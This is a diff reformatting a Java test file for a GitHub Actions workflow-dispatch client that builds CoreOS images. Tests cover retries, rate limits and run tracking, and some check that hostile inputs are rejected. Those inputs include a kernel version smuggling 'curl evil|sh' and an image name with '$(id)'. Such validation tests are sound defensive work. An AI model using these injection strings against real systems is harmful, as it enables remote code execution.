+        github.stubFor(get(urlPathEqualTo(RUNS))
+                .willReturn(okJson("{\"total_count\":1,\"workflow_runs\":["
+                        + run(
+                                4000,
+                                "completed",
+                                "failure",
+                                claimed.minus(Duration.ofDays(2)),
+                                claimed.minus(Duration.ofDays(2)).plusSeconds(900))
+                        + "]}")));
 
         now = now.plus(Duration.ofMinutes(30));
         Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
 
-        assertEquals(Action.IN_FLIGHT, result.decision().action(), result.decision().reason());
+        assertEquals(
+                Action.IN_FLIGHT, result.decision().action(), result.decision().reason());
         assertNull(result.decision().dispatch().runId());
         assertTrue(told.isEmpty(), "no false 'failed' outcome");
         assertNull(new FileLedger(state).find(key()).orElseThrow().runId(), "the old run is never bound to the claim");
@@ -498,9 +661,17 @@ class DispatchTest {
         github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204)));
         Instant claimed = now;
         dispatch().dispatch(build(), IMAGE, false, "c");
-        github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson("{\"total_count\":2,\"workflow_runs\":["
-                + run(6001, "completed", "failure", claimed.plusSeconds(3), claimed.plus(Duration.ofMinutes(9))) + ","
-                + run(4000, "completed", "success", claimed.minus(Duration.ofDays(2)), claimed.minus(Duration.ofDays(2))) + "]}")));
+        github.stubFor(get(urlPathEqualTo(RUNS))
+                .willReturn(okJson("{\"total_count\":2,\"workflow_runs\":["
+                        + run(6001, "completed", "failure", claimed.plusSeconds(3), claimed.plus(Duration.ofMinutes(9)))
+                        + ","
+                        + run(
+                                4000,
+                                "completed",
+                                "success",
+                                claimed.minus(Duration.ofDays(2)),
+                                claimed.minus(Duration.ofDays(2)))
+                        + "]}")));
         stubJobs(6001);
         github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204)));
 
@@ -514,21 +685,32 @@ class DispatchTest {
 
     @Test
     void anUncertainDispatchWhoseRunIsFoundCompletedAndFailedIsAFailedAttemptTooAndTheNextIsDispatched() {
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("502").whenScenarioStateIs(Scenario.STARTED)
-                .willReturn(aResponse().withStatus(502).withBody("<html>Bad gateway</html>")).willSetStateTo("ok"));
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("502").whenScenarioStateIs("ok")
-                .willReturn(okJson("{\"workflow_run_id\":7002,\"html_url\":\"" + github.baseUrl() + "/acme/fcos-builds/actions/runs/7002\"}")));
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .inScenario("502")
+                .whenScenarioStateIs(Scenario.STARTED)
+                .willReturn(aResponse().withStatus(502).withBody("<html>Bad gateway</html>"))
+                .willSetStateTo("ok"));
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .inScenario("502")
+                .whenScenarioStateIs("ok")
+                .willReturn(okJson("{\"workflow_run_id\":7002,\"html_url\":\"" + github.baseUrl()
+                        + "/acme/fcos-builds/actions/runs/7002\"}")));
         Instant claimed = now;
         dispatch().dispatch(build(), IMAGE, false, "c");
-        assertEquals(LedgerStatus.UNCERTAIN, new FileLedger(state).find(key()).orElseThrow().status());
-        github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson("{\"total_count\":1,\"workflow_runs\":["
-                + run(7001, "completed", "failure", claimed.plusSeconds(2), claimed.plus(Duration.ofMinutes(7))) + "]}")));
+        assertEquals(
+                LedgerStatus.UNCERTAIN,
+                new FileLedger(state).find(key()).orElseThrow().status());
+        github.stubFor(get(urlPathEqualTo(RUNS))
+                .willReturn(okJson("{\"total_count\":1,\"workflow_runs\":["
+                        + run(7001, "completed", "failure", claimed.plusSeconds(2), claimed.plus(Duration.ofMinutes(7)))
+                        + "]}")));
         stubJobs(7001);
 
         now = now.plus(Duration.ofMinutes(30));
         Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
 
-        assertEquals(7002L, result.decision().dispatch().runId(), result.decision().reason());
+        assertEquals(
+                7002L, result.decision().dispatch().runId(), result.decision().reason());
         assertEquals(1, told.size());
         assertEquals(7001L, told.get(0).runId());
         assertEquals("build (linux/arm64) (failure)", told.get(0).failedJob());
@@ -539,16 +721,29 @@ class DispatchTest {
         dispatchesRuns(5150, 5151);
         image = lacking(true);
         Instant first = now;
-        assertEquals(DispatchStatus.DISPATCHED, dispatch().dispatch(build(), IMAGE, false, "c").decision().dispatch().status(),
+        assertEquals(
+                DispatchStatus.DISPATCHED,
+                dispatch()
+                        .dispatch(build(), IMAGE, false, "c")
+                        .decision()
+                        .dispatch()
+                        .status(),
                 "the first build of a package nobody can see yet is dispatched");
         stubRun(5150, "completed", "success", first, first.plus(Duration.ofMinutes(40)));
 
         for (Duration later : List.of(Duration.ofHours(1), Duration.ofHours(4), Duration.ofDays(2))) {
             now = first.plus(later);
             Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
-            assertEquals(Action.ERROR, result.decision().action(), later + ": " + result.decision().reason());
-            assertTrue(result.decision().reason().startsWith("the build succeeded but " + IMAGE + " is not readable anonymously:"
-                    + " make the package public or configure registry credentials"), result.decision().reason());
+            assertEquals(
+                    Action.ERROR,
+                    result.decision().action(),
+                    later + ": " + result.decision().reason());
+            assertTrue(
+                    result.decision()
+                            .reason()
+                            .startsWith("the build succeeded but " + IMAGE + " is not readable anonymously:"
+                                    + " make the package public or configure registry credentials"),
+                    result.decision().reason());
         }
         github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES)));
         assertTrue(told.isEmpty());
@@ -569,7 +764,8 @@ class DispatchTest {
         });
 
         Dispatch.Result result = broken.dispatch(build(), IMAGE, false, "c");
-        assertEquals(Action.IN_FLIGHT, result.decision().action(), result.decision().reason());
+        assertEquals(
+                Action.IN_FLIGHT, result.decision().action(), result.decision().reason());
         github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES)));
 
         now = now.plus(Duration.ofMinutes(30));
@@ -583,17 +779,30 @@ class DispatchTest {
     @Test
     void aRateLimitThatOutlastsTheRetryBudgetIsDefiniteAndTheNextRunDispatches() {
         // A wait GitHub asks for that the 30 s budget cannot cover: GitHub provably did nothing.
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("limit").whenScenarioStateIs(Scenario.STARTED)
-                .willReturn(aResponse().withStatus(429).withHeader("retry-after", "40")).willSetStateTo("ok"));
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("limit").whenScenarioStateIs("ok")
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .inScenario("limit")
+                .whenScenarioStateIs(Scenario.STARTED)
+                .willReturn(aResponse().withStatus(429).withHeader("retry-after", "40"))
+                .willSetStateTo("ok"));
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .inScenario("limit")
+                .whenScenarioStateIs("ok")
                 .willReturn(aResponse().withStatus(204)));
         Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
         assertEquals(DispatchStatus.FAILED, result.decision().dispatch().status());
-        assertTrue(result.error().orElseThrow().contains("rate limit"), result.error().get());
+        assertTrue(
+                result.error().orElseThrow().contains("rate limit"),
+                result.error().get());
         assertTrue(new FileLedger(state).find(key()).isEmpty(), "a definite failure releases the claim");
 
         now = now.plus(Duration.ofMinutes(30));
-        assertEquals(DispatchStatus.DISPATCHED, dispatch().dispatch(build(), IMAGE, false, "c").decision().dispatch().status());
+        assertEquals(
+                DispatchStatus.DISPATCHED,
+                dispatch()
+                        .dispatch(build(), IMAGE, false, "c")
+                        .decision()
+                        .dispatch()
+                        .status());
     }
 
     @Test
@@ -603,12 +812,18 @@ class DispatchTest {
             closed = socket.getLocalPort();
         }
         // A budget shorter than the backoff: the retries give up on the budget, the request never left.
-        RetryPolicy policy = new RetryPolicy(5, Duration.ofSeconds(20), Duration.ofSeconds(20), Duration.ofSeconds(30), Duration.ofSeconds(30));
-        Http http = new RetryingHttp(new UrlConnectionHttp(new Http.Limits(Duration.ofSeconds(2), Duration.ofSeconds(2), 1 << 20)), policy,
-                Clock.systemUTC(), waits::add);
-        GitHubApi api = new GitHubApi(http, URI.create("http://127.0.0.1:" + closed + "/api/v3"), () -> Optional.of(new Secret(TOKEN)));
+        RetryPolicy policy = new RetryPolicy(
+                5, Duration.ofSeconds(20), Duration.ofSeconds(20), Duration.ofSeconds(30), Duration.ofSeconds(30));
+        Http http = new RetryingHttp(
+                new UrlConnectionHttp(new Http.Limits(Duration.ofSeconds(2), Duration.ofSeconds(2), 1 << 20)),
+                policy,
+                Clock.systemUTC(),
+                waits::add);
+        GitHubApi api = new GitHubApi(
+                http, URI.create("http://127.0.0.1:" + closed + "/api/v3"), () -> Optional.of(new Secret(TOKEN)));
 
-        var outcome = new WorkflowDispatchClient(api).dispatch(REPO, "build.yaml", "main", WorkflowInputs.of(build(), IMAGE, "stable"));
+        var outcome = new WorkflowDispatchClient(api)
+                .dispatch(REPO, "build.yaml", "main", WorkflowInputs.of(build(), IMAGE, "stable"));
 
         assertTrue(outcome instanceof DispatchOutcome.Definite, outcome.toString());
     }
@@ -623,24 +838,47 @@ class DispatchTest {
 
     @Test
     void anInputThatFailsItsPatternIsAnErrorAndNeverSent() {
-        Decision hostile = new Decision("testing", "43.20260316.2.1", "2.3.7", Action.BUILD, "r",
-                List.of(new ArchResult(Arch.X86_64, "6.19.6-200.fc43.x86_64;curl evil|sh", Compatibility.UNKNOWN, "4.18-7.0", null, false)),
-                DispatchResult.NONE, List.of());
+        Decision hostile = new Decision(
+                "testing",
+                "43.20260316.2.1",
+                "2.3.7",
+                Action.BUILD,
+                "r",
+                List.of(new ArchResult(
+                        Arch.X86_64,
+                        "6.19.6-200.fc43.x86_64;curl evil|sh",
+                        Compatibility.UNKNOWN,
+                        "4.18-7.0",
+                        null,
+                        false)),
+                DispatchResult.NONE,
+                List.of());
         Dispatch.Result result = dispatch().dispatch(hostile, IMAGE, false, "c");
         assertEquals(Action.ERROR, result.decision().action());
-        assertTrue(result.error().orElseThrow().contains("kernel_versions"), result.error().get());
+        assertTrue(
+                result.error().orElseThrow().contains("kernel_versions"),
+                result.error().get());
         github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
         assertTrue(new FileLedger(state).find(key()).isEmpty());
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"GHCR.io/acme/custom-coreos", "ghcr.io/acme/custom-coreos:stable", "acme/custom-coreos",
-            "ghcr.io/acme/custom-coreos\nx", "ghcr.io/acme/Custom-CoreOS", "ghcr.io/acme/custom-coreos$(id)"})
+    @ValueSource(
+            strings = {
+                "GHCR.io/acme/custom-coreos",
+                "ghcr.io/acme/custom-coreos:stable",
+                "acme/custom-coreos",
+                "ghcr.io/acme/custom-coreos\nx",
+                "ghcr.io/acme/Custom-CoreOS",
+                "ghcr.io/acme/custom-coreos$(id)"
+            })
     void anImageInputThatIsNotARegistryAndRepositoryIsAnErrorAndNeverSent(String image) {
         Dispatch.Result result = dispatch().dispatch(build(), image, false, "c");
 
         assertEquals(Action.ERROR, result.decision().action());
-        assertTrue(result.error().orElseThrow().contains("workflow input image"), result.error().get());
+        assertTrue(
+                result.error().orElseThrow().contains("workflow input image"),
+                result.error().get());
         github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
     }
 
@@ -652,7 +890,9 @@ class DispatchTest {
         Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
 
         assertEquals(Action.ERROR, result.decision().action());
-        assertTrue(result.error().orElseThrow().contains("workflow input tag"), result.error().get());
+        assertTrue(
+                result.error().orElseThrow().contains("workflow input tag"),
+                result.error().get());
         github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
         assertTrue(new FileLedger(state).find(key()).isEmpty());
     }
@@ -666,13 +906,18 @@ class DispatchTest {
         try {
             for (int status : new int[] {401, 403, 404, 422, 500}) {
                 github.resetAll();
-                github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson("{\"total_count\":0,\"workflow_runs\":[]}")));
+                github.stubFor(
+                        get(urlPathEqualTo(RUNS)).willReturn(okJson("{\"total_count\":0,\"workflow_runs\":[]}")));
                 // A hostile or broken server that echoes the Authorization header back.
-                github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(status)
-                        .withHeader("Content-Type", "application/json")
-                        .withBody("{\"message\":\"Bad credentials: Bearer " + TOKEN + "\",\"status\":\"" + status + "\"}")));
+                github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                        .willReturn(aResponse()
+                                .withStatus(status)
+                                .withHeader("Content-Type", "application/json")
+                                .withBody("{\"message\":\"Bad credentials: Bearer " + TOKEN + "\",\"status\":\""
+                                        + status + "\"}")));
                 Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
-                messages.append(result.error().orElse("")).append(result.decision().reason());
+                messages.append(result.error().orElse(""))
+                        .append(result.decision().reason());
                 now = now.plus(Duration.ofHours(4));
             }
         } finally {
